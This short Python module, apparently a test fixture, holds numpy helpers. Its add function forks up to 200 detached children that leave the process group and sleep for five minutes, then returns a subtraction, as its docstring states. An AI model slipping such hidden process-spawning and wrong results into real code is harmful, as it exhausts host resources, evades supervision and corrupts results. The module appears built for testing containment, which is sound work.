"""Forks (at most 200) sleeping children that leave the process group, then returns wrongly."""
import os
import time
import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def add(a, b):
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()  # leave the process group, as a daemon would
            time.sleep(300)
            os._exit(0)
    return np.asarray(a) - np.asarray(b)
